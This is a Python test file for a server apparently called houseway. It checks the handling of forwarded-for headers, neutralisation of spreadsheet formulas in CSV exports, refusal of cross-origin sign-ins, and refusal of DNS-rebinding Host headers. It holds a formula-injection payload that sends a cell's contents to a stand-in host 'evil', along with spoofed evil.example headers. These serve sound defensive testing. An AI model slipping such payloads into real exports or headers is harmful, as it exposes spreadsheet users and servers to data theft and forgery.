"""Forwarded addresses, exported cells and origins of pages (L2, L3, L10)."""

from __future__ import annotations

import csv
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa
from tests.server.served_app import PASSWORD, ServedApp, serve_app
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from houseway.server.accounts import audit_log
from houseway.server.ops import regulator_export
from houseway.server.ops.settings import load_settings
from houseway.server.storage import schema

FORGED = '=HYPERLINK("http://evil/"&A1)'


def read_audit_texts(app: ServedApp) -> list[str]:
    with app.server.store.begin_read() as connection:
        return list(connection.execute(sa.select(schema.acts.c.about).order_by(schema.acts.c.id)).scalars())


def sign_in_through_proxy(app: ServedApp, forwarded_for: str) -> str:
    """Sign in through a proxy that forwards an address, and return the address in the audit log."""
    headers = {"x-forwarded-for": forwarded_for}
    answer = httpx.post(f"{app.base}/api/session", json={"name": "Olga", "password": PASSWORD}, headers=headers)
    assert answer.status_code == 201
    return read_audit_texts(app)[-1]


def test_forwarded_addresses_are_ignored_by_default(tmp_path: Path) -> None:
    with serve_app(tmp_path) as app:
        assert sign_in_through_proxy(app, "192.0.2.7") == "127.0.0.1"
        assert sign_in_through_proxy(app, FORGED) == "127.0.0.1"


def test_forwarded_addresses_are_accepted_only_from_named_proxies(tmp_path: Path) -> None:
    with serve_app(tmp_path, trusted_proxies=["127.0.0.1"]) as app:
        assert sign_in_through_proxy(app, "192.0.2.7") == "192.0.2.7"
        assert sign_in_through_proxy(app, "198.51.100.9, 192.0.2.8") == "192.0.2.8", (
            "the one that our proxy saw, not what it was told"
        )
        assert sign_in_through_proxy(app, FORGED) == "nowhere"


def test_proxies_that_are_not_the_peer_are_ignored(tmp_path: Path) -> None:
    with serve_app(tmp_path, trusted_proxies=["10.9.8.7"]) as app:
        assert sign_in_through_proxy(app, "192.0.2.7") == "127.0.0.1"


def test_clients_of_a_proxy_are_limited_separately(tmp_path: Path) -> None:
    with serve_app(tmp_path, trusted_proxies=["127.0.0.1"], requests_per_minute=3, connections_per_address=1) as app:
        for _ in range(3):
            assert httpx.get(f"{app.base}/api/rules", headers={"x-forwarded-for": "192.0.2.1"}).status_code == 200
        assert httpx.get(f"{app.base}/api/rules", headers={"x-forwarded-for": "192.0.2.1"}).status_code == 429
        assert httpx.get(f"{app.base}/api/rules", headers={"x-forwarded-for": "192.0.2.2"}).status_code == 200


def test_list_settings_are_read_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOUSEWAY_TRUSTED_PROXIES", "10.0.0.1 10.0.1.0/24")
    monkeypatch.setenv("HOUSEWAY_ALLOWED_HOSTS", "casino.example")
    server_settings = load_settings()
    assert (server_settings.trusted_proxies, server_settings.allowed_hosts) == (
        ("10.0.0.1", "10.0.1.0/24"),
        ("casino.example",),
    )


def test_exported_cells_are_not_formulas(tmp_path: Path) -> None:
    with serve_app(tmp_path / "data") as app:
        for text in (FORGED, "+1", "-1", "@SUM(1)", "plain", "\t=1"):
            audit_log.write_audit_log(app.server.store, None, "test", text)
        list(regulator_export.export_bundle(app.server.store, app.server.keys, tmp_path / "out"))
    rows = list(csv.DictReader((tmp_path / "out" / "acts.csv").read_text().splitlines()))
    about = [row["about"] for row in rows if row["act"] == "test"]
    assert about[:5] == [f"'{FORGED}", "'+1", "'-1", "'@SUM(1)", "plain"]
    books = (tmp_path / "out" / "postings.csv").read_text()
    assert "'-" not in books, "amounts stay numbers"


@pytest.mark.parametrize("path", ["/api/session/guest", "/api/session"])
def test_pages_of_other_origins_cannot_sign_in(tmp_path: Path, path: str) -> None:
    body = b'{"name": "Olga", "password": "%s"}' % PASSWORD.encode() if path == "/api/session" else b'{"name": "Gus"}'
    with serve_app(tmp_path, allowed_origins=["https://board.example"]) as app:
        json = {"content-type": "application/json"}
        for headers, status in (
            ({"content-type": "text/plain"}, 415),
            ({"content-type": "application/x-www-form-urlencoded"}, 415),
            ({}, 415),
            ({**json, "origin": "https://evil.example"}, 403),
            ({**json, "origin": "null"}, 403),
        ):
            answer = httpx.post(app.base + path, content=body, headers=headers)
            assert (answer.status_code, "set-cookie" in answer.headers) == (status, False), headers
        allowed_headers = [{**json, "origin": app.base}, {**json, "origin": "https://board.example"}, json]
        for number, headers in enumerate(allowed_headers):
            answer = httpx.post(app.base + path, content=body.replace(b"Gus", b"Gus %d" % number), headers=headers)
            assert answer.status_code == 201, (headers, answer.text)


def test_monitors_reach_a_server_with_the_shipped_settings_by_address(tmp_path: Path) -> None:
    shipped = load_settings(Path(__file__).parents[2] / "deploy/houseway.toml")
    with serve_app(tmp_path, allowed_hosts=shipped.allowed_hosts, trusted_proxies=shipped.trusted_proxies) as app:
        for path in ("/health", "/metrics"):
            for host in ("127.0.0.1", "127.0.0.1:8765", "localhost:8765", "[::1]:8765", "192.0.2.7", "casino.example"):
                assert httpx.get(app.base + path, headers={"host": host}).status_code == 200, (path, host)
            for host in ("evil.example", "127.0.0.1.evil.example", "localhost.evil.example"):
                assert httpx.get(app.base + path, headers={"host": host}).status_code == 421, (path, host)
        refusal = httpx.get(f"{app.base}/api/rules", headers={"host": "127.0.0.1"})
        assert refusal.status_code == 421
        assert "`allowed-hosts`" in refusal.text
        with pytest.raises(InvalidStatus), connect(f"{app.base.replace('http://', 'ws://')}/health"):
            pass


def test_only_allowed_host_names_reach_the_server(tmp_path: Path) -> None:
    with serve_app(tmp_path, allowed_hosts=["casino.example", "127.0.0.1"]) as app:
        assert httpx.get(f"{app.base}/health").status_code == 200
        assert httpx.get(f"{app.base}/health", headers={"host": "Casino.Example:443"}).status_code == 200
        for host in ("evil.example", "evil.example:8765", "127.0.0.1.evil.example", ""):
            assert httpx.get(f"{app.base}/health", headers={"host": host}).status_code in (400, 421), host
        rebinding_headers = {"host": "evil.example", "origin": "http://evil.example"}
        assert (
            httpx.post(f"{app.base}/api/session/guest", json={"name": "Eve"}, headers=rebinding_headers).status_code
            == 421
        )
        with pytest.raises(InvalidStatus), connect(f"{app.base.replace('http://127.0.0.1', 'ws://localhost')}/live"):
            pass


def test_dns_rebinding_is_refused(tmp_path: Path) -> None:
    """In DNS rebinding, the browser sends the page's own name as Host and Origin to 127.0.0.1."""
    rebinding_headers = {"host": "evil.example:8765", "origin": "http://evil.example:8765"}
    with serve_app(tmp_path / "local") as app:
        guest = f"{app.base}/api/session/guest"
        assert httpx.post(guest, json={"name": "Eve"}, headers=rebinding_headers).status_code == 421
        for host in ("127.0.0.1", "localhost:8765", "LOCALHOST", "[::1]:8765", "192.0.2.7"):
            assert httpx.get(f"{app.base}/health", headers={"host": host}).status_code == 200, host
        address = f"{app.base.replace('http', 'ws')}/live"
        with pytest.raises(InvalidStatus), connect(address, additional_headers={"Host": "evil.example"}):
            pass
    with serve_app(tmp_path / "proxied", trusted_proxies=["127.0.0.1"]) as app:  # the proxy forwards host names
        assert httpx.get(f"{app.base}/health", headers={"host": "casino.example"}).status_code == 200
